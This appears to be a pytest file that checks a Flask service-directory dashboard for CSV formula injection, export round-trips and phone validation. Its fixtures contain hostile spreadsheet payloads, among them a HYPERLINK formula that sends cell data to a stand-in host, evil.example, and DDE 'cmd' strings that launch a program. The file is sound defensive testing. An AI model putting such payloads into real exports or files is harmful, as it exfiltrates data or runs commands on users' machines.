"""Spreadsheet safety: no CSV the dashboard writes starts a cell with a formula (OWASP "CSV
Injection"), an export imports back unchanged, and phone numbers are checked on import/edit."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from flask import Flask
from flask.testing import FlaskClient
from markupsafe import escape
from sqlalchemy import func, select

from core.catalogs import translations
from core.vocabulary import Locale
from models import spreadsheet as cells
from models.services import Service
from tests.webhooks.outreach.helpers import ADMIN, add_events, login, make_user, post
from tests.webhooks.outreach.test_directory import CSV_HEADER, VALID_ROW, import_errors, upload
from webhooks.database import get_db

LINK = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
#: Imported (or typed) before phones were checked: each starts like a formula.
HOSTILE = {"name_en": LINK, "name_km": "+cmd|' /C calc'!A0", "address_en": "-2+3",
           "address_km": "@SUM(1+1)*cmd|' /C calc'!A0", "phone": "=1+2"}
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
KM = translations(Locale.KM)


def admin_client(app: Flask) -> FlaskClient:
    make_user(app, ADMIN, "admin")
    client = app.test_client()
    assert login(client, ADMIN).status_code == 302
    return client


def add_service(app: Flask, **fields: object) -> None:
    values = {"service_type": "methadone", "name_km": "ក", "name_en": "Clinic", "province_code": "12",
              "phone": "012 345 678", **fields}
    with app.app_context(), get_db().sessions() as session, session.begin():
        session.add(Service(**values))


def download(client: FlaskClient, path: str) -> list[list[str]]:
    with client.get(path) as response:
        assert response.status_code == 200, path
        text = response.get_data(as_text=True)
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"), newline="")))


def services(app: Flask) -> list[Service]:
    with app.app_context(), get_db().sessions() as session:
        return list(session.scalars(select(Service).order_by(Service.id)))


# --- the helper ------------------------------------------------------------------------------
@pytest.mark.parametrize("value", [LINK, "+1", "-1", "@a", "\tx", "\rx", "=", "+855 12 345 678"])
def test_a_cell_that_starts_like_a_formula_gets_a_quote(value: str) -> None:
    assert cells.cell(value) == "'" + value
    assert cells.unescape(cells.cell(value)) == value


@pytest.mark.parametrize("value", ["Clinic", "", "'=quoted already", " =1", "ក", "<5", "x", 12, -3,
                                   13.5, None])
def test_other_cells_are_left_alone(value: object) -> None:
    assert cells.cell(value) == value
    if isinstance(value, str) and not value.startswith("'"):
        assert cells.unescape(value) == value


def test_to_csv_neutralises_every_cell_and_keeps_each_cell_whole() -> None:
    text = cells.to_csv([("a", "b", "c"), ("=1+2", "x, y", 3), ("multi\nline", -4, "@z"),
                         ("bare\r=1+2", "", None)])
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows == [["a", "b", "c"], ["'=1+2", "x, y", "3"], ["multi\nline", "-4", "'@z"],
                    ["bare\r=1+2", "", ""]]


# --- every CSV of the dashboard -------------------------------------------------------------------
def test_the_directory_export_neutralises_formulas(app: Flask) -> None:
    add_service(app, **HOSTILE, latitude=11.5, longitude=104.9)
    add_service(app, name_en="\tTabbed", name_km="\rReturned")
    client = admin_client(app)
    header, *rows = download(client, "/outreach/directory/export.csv")
    first = dict(zip(header, rows[0]))
    for column, value in HOSTILE.items():
        assert first[column] == "'" + value, column
    assert (first["latitude"], first["longitude"]) == ("11.5", "104.9")
    second = dict(zip(header, rows[1]))
    assert (second["name_en"], second["name_km"]) == ("'\tTabbed", "'\rReturned")
    for row in rows:
        for value in row:
            assert not value.startswith(TRIGGERS), value


def test_a_carriage_return_inside_a_cell_cannot_start_a_row(app: Flask) -> None:
    """A bare CR ends a row in a spreadsheet: unquoted, "Street 1\r=HYPERLINK(…)" would put the
    formula at the start of a new row."""
    add_service(app, address_en="Street 1\r=SUM(1+1)*cmd|' /C calc'!A0")
    client = admin_client(app)
    header, *rows = download(client, "/outreach/directory/export.csv")
    assert len(rows) == 1 and len(rows[0]) == len(header)
    assert dict(zip(header, rows[0]))["address_en"] == "Street 1\r=SUM(1+1)*cmd|' /C calc'!A0"


def test_an_export_imports_back_unchanged(app: Flask) -> None:
    add_service(app, name_en="-Drop-in- (night)", address_en="@ the market", phone="+855 23 123 456")
    add_service(app, name_en="Plain Clinic", phone="(023) 880-111")
    client = admin_client(app)
    before = [(s.name_en, s.address_en, s.phone) for s in services(app)]
    with client.get("/outreach/directory/export.csv") as response:
        exported = response.get_data(as_text=True).lstrip("\ufeff")
    assert "'+855 23 123 456" in exported and "'-Drop-in- (night)" in exported
    response = upload(client, exported, replace="y")
    assert response.status_code == 302, response.get_data(as_text=True)
    assert [(s.name_en, s.address_en, s.phone) for s in services(app)] == before


# --- phone numbers ----------------------------------------------------------------------------
def test_import_refuses_a_phone_that_is_not_a_phone_number_naming_the_line(app: Flask) -> None:
    client = admin_client(app)
    body = (CSV_HEADER
            + "methadone,ក,Good,12,1201,+855 (0)12-345-678,\n"
            + "methadone,ខ,Formula,12,1201,=1+2,\n"
            + "rehab,គ,Bad type,12,,012,\n"
            + 'methadone,ឃ,Link,12,1201,"=HYPERLINK(""http://x"",""y"")",\n'
            + "methadone,ង,Short,12,1201,12,\n"
            + "methadone,ច,Long,12,1201," + "1" * 21 + ",\n")
    response = upload(client, body)
    assert response.status_code == 400
    page = response.get_data(as_text=True)
    errors = import_errors(page)
    assert list(errors) == [3, 4, 5, 6, 7]
    assert errors[3] == ["<code>phone</code> (Phone) &#39;=1+2&#39; is not a phone number: use "
                         "only digits, spaces, brackets, + and -, with 3 to 20 digits"]
    assert "<code>service_type</code> (Type of service) &#39;rehab&#39;" in errors[4][0]
    assert all(len(errors[n]) == 1 and errors[n][0].startswith("<code>phone</code>")
               for n in (5, 6, 7))
    assert not services(app)


def test_hsds_import_checks_phones_too(app: Flask) -> None:
    client = admin_client(app)
    record = {"name": "Clinic", "alternate_name": "ក", "phones": [{"number": "@SUM(1)"}],
              "x_sangkhim": {"service_type": "methadone", "province_code": "12"}}
    body = json.dumps({"services": [record]})
    response = upload(client, body, name="directory.json")
    assert response.status_code == 400
    page = response.get_data(as_text=True)
    assert "Service 1:" in page
    assert import_errors(page)[1] == [
        "<code>phone</code> (Phone) &#39;@SUM(1)&#39; is not a phone number: use only digits, "
        "spaces, brackets, + and -, with 3 to 20 digits"]


def test_the_service_form_checks_the_phone(app: Flask) -> None:
    client = admin_client(app)
    for phone in ("=1+2", "12", "012 345 678 ext. 9", "+855 12 345 678 +1"):
        response = post(client, "/outreach/directory/new", {**VALID_ROW, "phone": phone},
                        page="/outreach/directory/new")
        assert response.status_code == 400, phone
        assert "is not a phone number" in response.get_data(as_text=True), phone
    with app.app_context(), get_db().sessions() as session:
        assert session.scalar(select(func.count()).select_from(Service)) == 0
    good = post(client, "/outreach/directory/new", {**VALID_ROW, "phone": "+855 (0)23 880-111"},
                page="/outreach/directory/new")
    assert good.status_code == 302
    service_id = services(app)[0].id
    edited = post(client, f"/outreach/directory/{service_id}", {**VALID_ROW, "phone": "-1+1"},
                  page=f"/outreach/directory/{service_id}")
    assert edited.status_code == 400 and services(app)[0].phone == "+855 (0)23 880-111"


def test_the_phone_rule_is_shown_in_khmer(app: Flask) -> None:
    client = admin_client(app)
    post(client, "/outreach/language", {"locale": "km"}, page="/outreach/directory")
    def rule(column: str) -> str:
        return KM.gettext(cells.PHONE_RULE) % {"column": column, "phone": escape(repr("=1+2"))}

    form = post(client, "/outreach/directory/new", {**VALID_ROW, "phone": "=1+2"},
                page="/outreach/directory/new")
    assert form.status_code == 400 and rule(KM.gettext("Phone")) in form.get_data(as_text=True)
    imported = upload(client, CSV_HEADER + "methadone,ខ,Formula,12,1201,=1+2,\n")
    column = f"<code>phone</code> ({KM.gettext('Phone')})"
    assert imported.status_code == 400 and rule(column) in imported.get_data(as_text=True)


# --- the command line: the same rules ---------------------------------------------------------------
def flask_cli(app: Flask, *args: str) -> tuple[int, str, str]:
    result = app.test_cli_runner().invoke(args=list(args))
    return result.exit_code, result.stdout, result.stderr


def test_flask_directory_export_neutralises_formulas_and_imports_back(
    app: Flask, tmp_path: Path
) -> None:
    add_service(app, **HOSTILE | {"phone": "+855 23 123 456"})
    add_service(app, address_en="Street 1\r=SUM(1+1)*cmd|' /C calc'!A0")
    before = [(s.name_en, s.name_km, s.address_en, s.address_km, s.phone) for s in services(app)]
    code, out, err = flask_cli(app, "directory", "export")
    assert code == 0, err
    header, *rows = list(csv.reader(io.StringIO(out, newline="")))
    assert len(rows) == 2 and all(len(row) == len(header) for row in rows)  # the CR kept inside
    for row in rows:
        for value in row:
            assert not value.startswith(TRIGGERS), value
    assert dict(zip(header, rows[0]))["name_en"] == "'" + LINK
    exported = tmp_path / "directory.csv"
    exported.write_text(out, encoding="utf-8", newline="")
    code, _, err = flask_cli(app, "directory", "import", "--replace", str(exported))
    assert code == 0, err
    assert [(s.name_en, s.name_km, s.address_en, s.address_km, s.phone)
            for s in services(app)] == before


def test_flask_directory_import_checks_phones(app: Flask, tmp_path: Path) -> None:
    bad = tmp_path / "bad.csv"
    bad.write_text(CSV_HEADER + "methadone,ក,Good,12,1201,012 345 678,\n"
                   + "methadone,ខ,Formula,12,1201,=1+2,\n", encoding="utf-8")
    code, _, err = flask_cli(app, "directory", "import", str(bad))
    assert code == 1
    assert "line 3: phone '=1+2' is not a phone number" in err and "line 2" not in err
    assert not services(app)


def test_flask_demand_export_is_written_by_the_spreadsheet_writer(
    app: Flask, tmp_path: Path
) -> None:
    """One CSV writer for every file that leaves Sangkhim: CRLF rows, formula cells quoted."""
    add_events(app, [("2025-09-03", "16", "1602", "methadone", "served_farther", "sms", "km", 8)])
    target = tmp_path / "demand.csv"
    code, _, err = flask_cli(app, "demand", "export", "--from", "2025-09-01", "--to", "2025-09-07",
                             "-o", str(target))
    assert code == 0, err
    written = target.read_bytes()
    rows = written.split(b"\r\n")
    assert rows[0].startswith(b"period,") and b"2025-W36" in rows[1] and rows[-1] == b""
    assert b"\n" not in written.replace(b"\r\n", b"")
